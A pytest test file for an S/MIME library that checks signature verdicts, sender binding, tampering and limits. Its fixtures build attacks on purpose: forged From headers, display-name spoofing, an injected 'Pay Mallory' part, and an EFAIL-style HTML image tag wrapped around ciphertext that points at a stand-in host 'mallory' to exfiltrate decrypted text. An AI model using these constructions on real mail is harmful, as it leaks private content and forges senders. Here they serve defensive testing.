"""`open_message` and `open_cms`: verdicts, sender binding, what stands outside, limits."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from smime_engine import (
    Certificate,
    DecryptionKeys,
    KeyRing,
    LimitExceeded,
    Limits,
    MalformedMessage,
    MessageEncryptor,
    MessageSigner,
    NoMatchingKey,
    NotValid,
    PathOptions,
    Problem,
    TrustCollection,
    Verdict,
    load_identity,
    open_cms,
    open_message,
    recipient_for,
    seal_message,
)
from smime_engine.asn1 import ber, oids
from smime_engine.cms.several_signers import sign_with
from smime_engine.cms.signed_data_writer import certificates_only, encode_signed_data
from smime_engine.cms.signer import CmsSigner, SignedAttributes
from smime_engine.report import CertificatesLayer, EncryptedLayer, SignedLayer
from tests import pki
from tests.engine.people import CONTENT, MESSAGE, authority, identity, ring, signer, trust

NOW = pki.MOMENT


def problems_of(opened):
    return {problem for signature in opened.signatures for problem in signature.problems}


def signed_by(name="alice", message=MESSAGE, **options):
    return signer(name, **options).sign(message, now=NOW)


@pytest.mark.parametrize("clear", [True, False])
def test_a_signed_message_is_valid_and_keeps_its_content(clear):
    opened = open_message(signed_by(clear=clear), trust=trust(), now=NOW).require_valid()
    assert opened.verdict is Verdict.VALID
    assert opened.content == CONTENT
    assert opened.sender_bound is True
    assert not opened.partial
    (layer,) = opened.layers
    assert isinstance(layer, SignedLayer)
    assert layer.clear is clear
    (signature,) = opened.signatures
    assert signature.certificate == identity("alice").certificate
    assert signature.signing_time == NOW
    assert (signature.digest, signature.algorithm) == ("sha256", "ecdsa")
    assert [link.subject for link in signature.path.chain][1:] == ["CN=Engine CA", "CN=Engine Root"]


def test_every_changed_byte_of_the_content_is_noticed():
    signed = signed_by()
    start = signed.index(b"We agree.")
    for offset in range(start, start + len(b"We agree.")):
        changed = bytearray(signed)
        changed[offset] ^= 1
        opened = open_message(bytes(changed), trust=trust(), now=NOW)
        assert opened.verdict is Verdict.INVALID
        assert Problem.DIGEST_MISMATCH in problems_of(opened)


def test_without_trust_nothing_is_valid():
    opened = open_message(signed_by(), now=NOW)
    assert opened.verdict is Verdict.UNKNOWN
    assert problems_of(opened) == {Problem.NO_TRUST_ANCHOR}


def test_another_root_is_not_trusted():
    other = TrustCollection([Certificate.parse(pki.authority("Another Root").root_der)])
    opened = open_message(signed_by(), trust=other, now=NOW)
    assert opened.verdict is not Verdict.VALID
    assert opened.wanted  # the issuer of the intermediate is not in the message


def test_an_expired_signer_is_invalid():
    opened = open_message(signed_by(), trust=trust(), now=pki.NOT_AFTER + timedelta(days=1))
    assert problems_of(opened) == {Problem.EXPIRED}


def test_a_signing_time_in_the_future_is_told():
    holder = identity("alice")
    later = MessageSigner(holder.key, holder.certificate).sign(MESSAGE, now=NOW + timedelta(days=2))
    assert Problem.SIGNING_TIME_IN_FUTURE in problems_of(open_message(later, trust=trust(), now=NOW))


class TestSender:
    def test_somebody_elses_valid_signature_is_invalid(self):
        opened = open_message(signed_by("mallory"), trust=trust(), now=NOW)
        assert opened.verdict is Verdict.INVALID
        assert problems_of(opened) == {Problem.SENDER_MISMATCH}
        assert opened.sender_bound is False
        with pytest.raises(NotValid, match="sender"):
            opened.require_valid()

    def test_case_of_the_address_does_not_matter(self):
        message = MESSAGE.replace(b"alice@example.org", b"ALICE@Example.ORG")
        assert open_message(signed_by(message=message), trust=trust(), now=NOW).sender_bound is True

    def test_two_from_fields_are_an_attack(self):
        forged = b"From: mallory@example.org\r\n" + signed_by()
        opened = open_message(forged, trust=trust(), now=NOW)
        assert opened.sender_bound is False
        assert opened.verdict is Verdict.INVALID

    def test_a_display_name_is_not_an_address(self):
        message = MESSAGE.replace(b"Alice <alice@example.org>", b'"alice@example.org" <mallory@example.org>')
        assert open_message(signed_by(message=message), trust=trust(), now=NOW).sender_bound is False

    def test_a_sender_field_does_not_replace_the_author(self):
        message = b"Sender: alice@example.org\r\n" + MESSAGE.replace(b"<alice@", b"<boss@")
        assert open_message(signed_by(message=message), trust=trust(), now=NOW).sender_bound is False

    def test_of_several_authors_the_sender_signs(self):
        both = MESSAGE.replace(b"From: Alice <alice@example.org>", b"From: bob@example.org, carol@example.org")
        message = b"Sender: alice@example.org\r\n" + both
        assert open_message(signed_by(message=message), trust=trust(), now=NOW).sender_bound is True
        assert open_message(signed_by(message=both), trust=trust(), now=NOW).sender_bound is False

    def test_an_entity_without_from_has_nobody_to_compare(self):
        opened = open_message(signed_by(message=CONTENT), trust=trust(), now=NOW)
        assert opened.sender_bound is None
        assert opened.verdict is Verdict.VALID


class TestOutside:
    FOOTER = b"\r\n\r\n--list\r\nContent-Type: text/plain\r\n\r\nThe list's footer.\r\n--list--\r\n"

    def wrapped(self, *parts):
        header, _, _ = MESSAGE.partition(b"MIME-Version")
        body = b"".join(b"--list\r\n" + part + b"\r\n" for part in parts)
        return (
            header
            + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="list"\r\n\r\n'
            + body
            + b"--list--\r\n"
        )

    def entity(self, message):
        """The MIME entity of a signed message, without the fields outside."""
        return message[message.index(b"Content-Type:") :]

    def test_a_list_footer_makes_the_message_partial(self):
        footer = b"Content-Type: text/plain\r\n\r\nunsubscribe here"
        opened = open_message(self.wrapped(self.entity(signed_by()), footer), trust=trust(), now=NOW)
        assert opened.content == CONTENT
        assert opened.signatures[0].verdict is Verdict.VALID
        assert opened.partial
        assert [part.content_type for part in opened.outside] == ["text/plain"]
        with pytest.raises(NotValid, match="outside"):
            opened.require_valid()

    def test_decrypted_content_is_never_mixed_with_plain_siblings(self):
        """EFAIL's direct exfiltration: an image tag around the ciphertext."""
        sealed = MessageEncryptor([recipient_for(ring("bob").identities[0].certificate)]).encrypt(MESSAGE)
        before = b'Content-Type: text/html\r\n\r\n<img src="http://mallory/'
        after = b'Content-Type: text/html\r\n\r\n">'
        opened = open_message(self.wrapped(before, self.entity(sealed), after), keys=ring("bob"), now=NOW)
        assert opened.content == CONTENT
        assert opened.partial
        assert len(opened.outside) == 2

    def test_two_signed_parts_are_opened_apart(self):
        both = self.wrapped(self.entity(signed_by()), self.entity(signed_by("mallory")))
        opened = open_message(both, trust=trust(), now=NOW)
        assert opened.layers == ()
        assert opened.partial
        assert [part.verdict for part in opened.parts] == [Verdict.VALID, Verdict.INVALID]
        assert opened.verdict is Verdict.INVALID

    def test_a_part_behind_the_signature_is_outside(self):
        signed = signed_by()
        boundary = signed.partition(b'boundary="')[2].partition(b'"')[0]
        extra = b"\r\n--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--" + boundary + b"--\r\n"
        opened = open_message(signed.replace(b"\r\n--" + boundary + b"--\r\n", extra), trust=trust(), now=NOW)
        assert opened.partial
        assert opened.content == CONTENT

    @pytest.mark.parametrize(
        "forged",
        [
            lambda signed: signed.replace(b"MIME-Version", b"Content-Type: text/html\r\nMIME-Version"),
            lambda signed: signed.replace(b"\tmicalg", b"\tboundary=other;\r\n\tmicalg"),
        ],
    )
    def test_two_ways_to_read_it_make_it_invalid(self, forged):
        message = forged(signed_by())
        opened = open_message(message, trust=trust(), now=NOW)
        assert opened.verdict is not Verdict.VALID

    def test_plain_mail_may_be_as_odd_as_it_likes(self):
        assert open_message(b"Content-Type: text/html\r\n" + MESSAGE, now=NOW).verdict is None

    def test_a_second_content_type_behind_the_first_is_told(self):
        signed = signed_by()
        header_end = signed.index(b"\r\n\r\n")
        message = signed[:header_end] + b"\r\nContent-Type: text/html" + signed[header_end:]
        opened = open_message(message, trust=trust(), now=NOW)
        assert opened.content == CONTENT
        assert opened.verdict is Verdict.INVALID
        assert [finding.problem for finding in opened.findings] == [Problem.STRUCTURE_AMBIGUOUS]

    def test_a_signed_part_that_became_mixed_is_broken(self):
        broken = signed_by().replace(b"multipart/signed", b"multipart/mixed")
        opened = open_message(broken, trust=trust(), now=NOW)
        assert opened.verdict is Verdict.INVALID
        assert [finding.problem for finding in opened.findings] == [Problem.SIGNATURE_ORPHANED]

    def test_a_forwarded_message_is_compared_with_its_own_sender(self):
        outer = b"From: mallory@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + signed_by()
        opened = open_message(outer, trust=trust(), now=NOW)
        assert opened.sender == ("alice@example.org",)
        assert opened.partial  # Mallory's own fields are not Alice's


class TestStructures:
    def test_nobody_signed(self):
        empty = encode_signed_data((), (), (identity("alice").certificate.der,), content=CONTENT)
        opened = open_cms(empty, trust=trust(), now=NOW)
        assert opened.verdict is Verdict.INVALID
        assert opened.layers[0].problems == (Problem.NO_SIGNERS,)

    def test_certificates_only_sign_nothing(self):
        opened = open_cms(certificates_only([identity("alice").certificate.der]), now=NOW)
        assert opened.verdict is None
        assert isinstance(opened.layers[0], CertificatesLayer)

    def test_detached_content_is_given_or_missing(self):
        holder = identity("alice")
        signature = CmsSigner(holder.key, holder.certificate, chain=holder.chain).sign(b"payload", now=NOW)
        assert open_cms(signature, content=b"payload", trust=trust(), now=NOW).verdict is Verdict.VALID
        assert open_cms(signature, content=b"changed", trust=trust(), now=NOW).verdict is Verdict.INVALID
        missing = open_cms(signature, trust=trust(), now=NOW)
        assert missing.verdict is not Verdict.VALID

    def test_the_certificate_may_be_given_apart(self):
        holder = identity("alice")
        bare = MessageSigner(holder.key, holder.certificate, include_certificates=False).sign(MESSAGE, now=NOW)
        assert problems_of(open_message(bare, trust=trust(), now=NOW)) == {Problem.SIGNER_CERTIFICATE_MISSING}
        given = (holder.certificate, *holder.chain)
        assert open_message(bare, trust=trust(), certificates=given, now=NOW).verdict is Verdict.VALID

    def test_one_bad_signer_of_two_spoils_the_message(self):
        signers = [
            CmsSigner(holder.key, holder.certificate, chain=holder.chain)
            for holder in (identity("alice"), identity("alice", kind="rsa2048"))
        ]
        both = MessageSigner.of(*signers).sign(MESSAGE, now=NOW)
        opened = open_message(both, trust=trust(), now=NOW)
        assert [signature.verdict for signature in opened.signatures] == [Verdict.VALID, Verdict.VALID]
        mixed = MessageSigner.of(signers[0], CmsSigner(identity("mallory").key, identity("mallory").certificate))
        assert open_message(mixed.sign(MESSAGE, now=NOW), trust=trust(), now=NOW).verdict is Verdict.INVALID

    def test_forgiven_problems_are_told_but_do_not_count(self):
        weak = authority().issue("weak", "alice@example.org", kind="rsa1024", usage="sign")
        holder = load_identity(weak.pem())
        signed = MessageSigner(holder.key, holder.certificate, chain=holder.chain).sign(MESSAGE, now=NOW)
        assert Problem.WEAK_KEY in problems_of(open_message(signed, trust=trust(), now=NOW))
        options = PathOptions(forgiven=frozenset({Problem.WEAK_KEY}))
        opened = open_message(signed, trust=trust(), options=options, now=NOW)
        assert opened.verdict is Verdict.VALID
        assert Problem.WEAK_KEY in problems_of(opened)

    def test_an_outer_gateway_signature_is_told_apart(self):
        gateway = signer("gateway")
        wrapped = seal_message(MESSAGE, steps=(signer("alice"), gateway), now=NOW)
        opened = open_message(wrapped, trust=trust(), now=NOW)
        assert opened.verdict is Verdict.VALID
        assert Problem.OUTER_SIGNER_DIFFERS in opened.signatures[0].problems
        assert opened.sender_bound is True

    def test_the_innermost_signature_must_be_the_senders(self):
        wrapped = seal_message(MESSAGE, steps=(signer("mallory"), signer("alice")), now=NOW)
        opened = open_message(wrapped, trust=trust(), now=NOW)
        assert opened.verdict is Verdict.INVALID
        assert opened.sender_bound is False

    def test_encrypted_content_without_a_key(self):
        sealed = MessageEncryptor([recipient_for(ring("bob").identities[0].certificate)]).encrypt(MESSAGE)
        with pytest.raises(NoMatchingKey):
            open_message(sealed, keys=KeyRing(), now=NOW)
        opened = open_message(sealed, keys=DecryptionKeys(ring=ring("bob")), now=NOW)
        assert opened.verdict is None
        (layer,) = opened.layers
        assert isinstance(layer, EncryptedLayer)
        assert (layer.cipher, layer.integrity) == ("aes256-cbc", False)

    def test_nested_structures_without_mime(self):
        """CMS allows a SignedData whose content is another structure, with no MIME in between."""
        holder = identity("alice")
        inner = sign_with([CmsSigner(holder.key, holder.certificate)], b"data", now=NOW, detached=False)
        start = inner.index(b"\xa0")
        _, content_start, content_end = ber.read_header(inner, start, len(inner))
        outer = CmsSigner(holder.key, holder.certificate, chain=holder.chain)
        wrapped = outer.sign(
            inner[content_start:content_end], now=NOW, detached=False, content_type=oids.ID_SIGNED_DATA
        )
        opened = open_cms(wrapped, trust=trust(), certificates=holder.chain, now=NOW)
        assert len(opened.layers) == 2
        assert opened.content == b"data"

    def test_layers_are_limited(self):
        message = MESSAGE
        for _ in range(4):
            message = signer("alice", clear=False).sign(message, now=NOW)
        assert len(open_message(message, trust=trust(), now=NOW).layers) == 4
        with pytest.raises(LimitExceeded):
            open_message(message, trust=trust(), now=NOW, limits=Limits(layers=3))


class TestReports:
    def test_reports_have_no_truth_value(self):
        opened = open_message(signed_by(), trust=trust(), now=NOW)
        for report in (opened, opened.signatures[0], opened.signatures[0].verdict, opened.signatures[0].path):
            with pytest.raises(TypeError):
                bool(report)

    def test_plain_mail_has_no_verdict(self):
        opened = open_message(MESSAGE, trust=trust(), now=NOW)
        assert (opened.verdict, opened.layers, opened.content) == (None, (), MESSAGE)
        with pytest.raises(NotValid, match="not signed"):
            opened.require_valid()

    def test_a_naive_moment_is_refused(self):
        with pytest.raises(ValueError, match="aware"):
            open_message(MESSAGE, now=datetime(2026, 1, 1))  # noqa: DTZ001

    def test_signed_attributes_reach_the_report(self):
        holder = identity("alice")
        attributes = SignedAttributes(signing_certificate=True, encryption_certificate=holder.certificate)
        signed = MessageSigner(holder.key, holder.certificate, chain=holder.chain, attributes=attributes)
        check = open_message(signed.sign(MESSAGE, now=NOW), trust=trust(), now=NOW).signatures[0].check
        assert check.encryption_key_preference is not None

    def test_a_message_cut_anywhere_is_an_answer_or_malformed(self):
        signed = signed_by(clear=False)
        for end in range(0, len(signed) - 8, 7):
            try:
                opened = open_message(signed[:end], trust=trust(), now=datetime(2026, 6, 1, tzinfo=UTC))
            except MalformedMessage:
                continue
            assert opened.verdict is not Verdict.VALID
